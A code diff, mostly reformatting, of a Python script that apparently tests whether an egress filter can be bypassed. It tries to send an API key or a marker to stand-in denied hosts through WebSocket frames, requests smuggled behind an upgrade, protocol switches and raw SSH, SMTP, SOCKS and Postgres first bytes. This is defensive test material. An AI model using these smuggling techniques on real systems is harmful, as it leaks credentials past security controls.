@@ -1,18 +1,32 @@
 """Begins as one protocol and goes on as another. The argument is a mark that must not get past what is allowed."""
-import sys; sys.path.insert(0, "/home/app")
+
 import base64
-from attack import *
+import os
+import struct
+import sys
+
+from attack import as_bytes, attempt, get, raw, report, say, tcp, tls
 
 API, OTHER, EVIL = "api.test.example", "other.test.example", "evil.test.example"
 KEY = os.environ["API_KEY"]
 MARK = sys.argv[1]
-UPGRADE = [("Upgrade", "websocket"), ("Connection", "Upgrade"), ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", base64.b64encode(os.urandom(16)).decode())]
+UPGRADE = [
+    ("Upgrade", "websocket"),
+    ("Connection", "Upgrade"),
+    ("Sec-WebSocket-Version", "13"),
+    ("Sec-WebSocket-Key", base64.b64encode(os.urandom(16)).decode()),
+]
 
 
 def frame(text, opcode=1, fin=True):
     data, mask = as_bytes(text), os.urandom(4)
     length = bytes([0x80 | len(data)]) if len(data) < 126 else bytes([0x80 | 126]) + struct.pack(">H", len(data))
-    return bytes([(0x80 if fin else 0) | opcode]) + length + mask + bytes(byte ^ mask[index % 4] for index, byte in enumerate(data))
+    return (
+        bytes([(0x80 if fin else 0) | opcode])
+        + length
+        + mask
+        + bytes(byte ^ mask[index % 4] for index, byte in enumerate(data))
+    )
 
 
 def websocket(host, path, frames, headers=(), quiet=2):
@@ -35,7 +49,15 @@ def websocket(host, path, frames, headers=(), quiet=2):
 
 @attempt
 def honest_websocket():
-    return websocket(API, "/honest", [frame("hello")], [("Authorization", f"Bearer {KEY}"), ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits")])
+    return websocket(
+        API,
+        "/honest",
+        [frame("hello")],
+        [
+            ("Authorization", f"Bearer {KEY}"),
+            ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"),
+        ],
+    )
 
 
 @attempt
@@ -50,7 +72,9 @@ def placeholder_in_a_frame_to_other():
 
 @attempt
 def placeholder_in_fragments_to_other():
-    return websocket(OTHER, "/fragments_other", [frame(KEY[:30], 1, False), frame(KEY[30:60], 0, False), frame(KEY[60:], 0)])
+    return websocket(
+        OTHER, "/fragments_other", [frame(KEY[:30], 1, False), frame(KEY[30:60], 0, False), frame(KEY[60:], 0)]
+    )
 
 
 @attempt
@@ -73,13 +97,32 @@ def http_after_101():
 @attempt
 def early_request_behind_the_upgrade():
     with tls(API) as sock:
-        return raw(sock, get(API, "/refuse", headers=UPGRADE) + get(EVIL, f"/{MARK}", headers=[("X-Attempt", "behind_upgrade")]), 2)
+        return raw(
+            sock,
+            get(API, "/refuse", headers=UPGRADE) + get(EVIL, f"/{MARK}", headers=[("X-Attempt", "behind_upgrade")]),
+            2,
+        )
 
 
 def other_upgrade(name, protocol, headers=()):
     def run():
         with tls(API) as sock:
-            return raw(sock, get(API, f"/{name}", headers=[("Upgrade", protocol), ("Connection", "Upgrade"), ("Authorization", f"Bearer {KEY}"), *headers]) + as_bytes(MARK), 2)
+            return raw(
+                sock,
+                get(
+                    API,
+                    f"/{name}",
+                    headers=[
+                        ("Upgrade", protocol),
+                        ("Connection", "Upgrade"),
+                        ("Authorization", f"Bearer {KEY}"),
+                        *headers,
+                    ],
+                )
+                + as_bytes(MARK),
+                2,
+            )
+
     run.__name__ = name
     attempt(run)
 
@@ -135,11 +178,23 @@ def first_bytes(name, host, port, data):
     def run():
         with tcp(host, port) as sock:
             return raw(sock, data, 3)
+
     run.__name__ = name
     attempt(run)
 
 
-FIRST = {"ssh": f"SSH-2.0-{MARK}\r\n", "binary": b"\0\1\2\3" + MARK.encode() * 4, "smtp": f"EHLO {MARK}\r\n", "tls_then_junk": b"\x16\x03\x01\x00\x05" + MARK.encode() * 4, "socks": b"\5\1\0" + MARK.encode(), "postgres": struct.pack(">II", 8, 80877103) + MARK.encode(), "line_without_http": f"GET /{MARK}\r\n\r\n", "http_0_9": f"GET /{MARK}\n\n", "http_3_0": f"GET /{MARK} HTTP/3.0\r\nHost: {API}\r\n\r\n", "long_line": b"A" * 200_000}
+FIRST = {
+    "ssh": f"SSH-2.0-{MARK}\r\n",
+    "binary": b"\0\1\2\3" + MARK.encode() * 4,
+    "smtp": f"EHLO {MARK}\r\n",
+    "tls_then_junk": b"\x16\x03\x01\x00\x05" + MARK.encode() * 4,
+    "socks": b"\5\1\0" + MARK.encode(),
+    "postgres": struct.pack(">II", 8, 80877103) + MARK.encode(),
+    "line_without_http": f"GET /{MARK}\r\n\r\n",
+    "http_0_9": f"GET /{MARK}\n\n",
+    "http_3_0": f"GET /{MARK} HTTP/3.0\r\nHost: {API}\r\n\r\n",
+    "long_line": b"A" * 200_000,
+}
 for label, data in FIRST.items():
     first_bytes(f"on_443_{label}_to_allowed", API, 443, data)
     first_bytes(f"on_443_{label}_to_denied", EVIL, 443, data)
